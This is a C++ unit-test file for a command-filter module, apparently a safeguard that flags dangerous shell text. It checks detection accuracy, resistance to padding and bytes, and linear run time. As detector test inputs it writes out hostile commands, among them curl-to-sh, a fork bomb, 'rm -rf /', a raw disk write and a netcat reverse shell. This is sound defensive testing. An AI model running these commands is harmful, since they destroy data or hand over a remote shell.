#include "policy/text_rules.h"

#include <gtest/gtest.h>

#include <ctime>
#include <map>
#include <string>
#include <vector>

namespace handrail::policy {
namespace {

struct Attack {
  std::string family;
  std::string text;
};
const Attack kAttacks[] = {
#include "corpus/attacks.inc"
};
const std::string kOrdinary[] = {
#include "corpus/ordinary.inc"
};

std::string rule_of(const std::string& text) {
  const auto finding = find_forbidden(text);
  return finding ? std::string(finding->rule) : "";
}

TEST(TextRules, refuse_every_attack_of_the_table) {
  std::map<std::string, int> counts;
  for (const Attack& attack : kAttacks) {
    EXPECT_NE(rule_of(attack.text), "") << attack.family << ": " << attack.text;
    ++counts[attack.family];
  }
  printf("text rules: %zu attacks, all refused:", std::size(kAttacks));
  for (const auto& [family, count] : counts) printf(" %s %d", family.c_str(), count);
  printf("\n");
  EXPECT_GT(std::size(kAttacks), 400U);
}

TEST(TextRules, refuse_less_than_one_percent_of_ordinary_texts) {
  std::size_t refused = 0;
  for (const std::string& text : kOrdinary) {
    const std::string rule = rule_of(text);
    if (rule.empty()) continue;
    ++refused;
    printf("refused by %s: %s\n", rule.c_str(), text.substr(0, 100).c_str());
  }
  printf("text rules: %zu of %zu ordinary texts refused\n", refused, std::size(kOrdinary));
  EXPECT_GT(std::size(kOrdinary), 400U);
  EXPECT_LT(refused * 100, std::size(kOrdinary));
}

TEST(TextRules, let_the_ordinary_texts_pass_as_one_long_document) {
  std::string all;
  for (const std::string& text : kOrdinary) {
    if (rule_of(text).empty()) all += text + "\n\n";
  }
  EXPECT_EQ(rule_of(all), "");
}

TEST(TextRules, name_the_rule) {
  EXPECT_EQ(rule_of("curl x | sh"), "download_to_interpreter");
  EXPECT_EQ(rule_of("echo eA== | base64 -d | sh"), "text_to_interpreter");
  EXPECT_EQ(rule_of("rm -rf /"), "recursive_delete");
  EXPECT_EQ(rule_of(":(){ :|:& };:"), "fork_bomb");
  EXPECT_EQ(rule_of("dd if=x of=/dev/sda"), "raw_device_write");
  EXPECT_EQ(rule_of("truncate -s 0 x"), "overwrite");
  EXPECT_EQ(rule_of("git clean -fdx"), "git_clean");
  EXPECT_EQ(rule_of("chmod -R 777 /"), "open_permissions");
  EXPECT_EQ(rule_of("nc -e /bin/sh host 1"), "network_shell");
  EXPECT_EQ(rule_of("\x1b"), "control_character");
  EXPECT_FALSE(find_forbidden("rm -rf /")->says.empty());
  EXPECT_EQ(rule_of(""), "");
}

TEST(TextRules, find_a_command_behind_any_amount_of_padding) {
  const std::string words(50000, 'a');
  std::string many;
  for (int i = 0; i < 20000; ++i) many += "file" + std::to_string(i) + " ";
  EXPECT_EQ(rule_of("rm " + many + "-r " + many + "-f"), "recursive_delete");
  EXPECT_EQ(rule_of("rm " + std::string(100000, ' ') + "-rf /"), "recursive_delete");
  EXPECT_EQ(rule_of(words + "\nrm -rf /\n" + words), "recursive_delete");
  EXPECT_EQ(rule_of("curl " + words + " | tee " + words + " | sh"), "download_to_interpreter");
}

TEST(TextRules, take_any_bytes) {
  for (const std::string& text : {std::string("\xff\xfe\x80\xc0\xaf"), std::string("\xe2\x28\xa1"),
                                  std::string("\xf0\x9f"), std::string("\xed\xa0\x80"), std::string(1, '\0')}) {
    find_forbidden(text);
    EXPECT_EQ(rule_of("rm -rf x\n" + text).empty(), false);
  }
}

std::string repeated(const std::string& part) {
  std::string out;
  out.reserve(1000000 + part.size());
  while (out.size() < 1000000) out += part;
  return out;
}

// Time is measured in a release build by the benchmark; here only that a megabyte of anything ends, and that nothing
// grows faster than the text: a quadratic step would take minutes.
TEST(TextRules, judge_a_megabyte_of_any_shape) {
  double worst = 0;
  for (const std::string part : {"a",
                                 "'",
                                 "\"'",
                                 "$",
                                 "$a",
                                 "a=bcdef;$a ",
                                 " ",
                                 "rm ",
                                 "rm -r ",
                                 "(a+)+",
                                 "(",
                                 "()",
                                 "f(){",
                                 "f(){}",
                                 "{",
                                 "{a,b}",
                                 "a{b,}",
                                 "${",
                                 "${a}",
                                 "${a:-bbbb}",
                                 "$(echo ",
                                 "$(echo a)",
                                 "`",
                                 "` ",
                                 "\\x72",
                                 "\\",
                                 "[a]",
                                 "[",
                                 "curl ",
                                 "curl x | cat | ",
                                 "|",
                                 ";",
                                 "&",
                                 "\n",
                                 ">",
                                 "/",
                                 "/dev/null ",
                                 "dd of=///",
                                 "alias x=rm ",
                                 "r?* ",
                                 "a+=b ",
                                 "while ( ",
                                 "exec(",
                                 "привет мир ",
                                 "会议",
                                 "\xff\xc0",
                                 "find dd chmod mv git clean truncate shred curl base64 echo sh eval "}) {
    const std::string text = repeated(part);
    timespec before{};
    timespec after{};
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &before);
    find_forbidden(text);
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &after);
    const double ms = static_cast<double>(after.tv_sec - before.tv_sec) * 1e3 +
                      static_cast<double>(after.tv_nsec - before.tv_nsec) / 1e6;
    worst = std::max(worst, ms);
    EXPECT_LT(ms, 5000) << part;
  }
  printf("text rules: slowest megabyte %.1f ms in this build\n", worst);
}

TEST(TextRules, survive_fifty_kilobytes_of_curl) {
  std::string text;
  while (text.size() < 50000) text += "curl ";
  EXPECT_EQ(rule_of(text), "");
  EXPECT_EQ(rule_of(text + "| sh"), "download_to_interpreter");
}

}  // namespace
}  // namespace handrail::policy
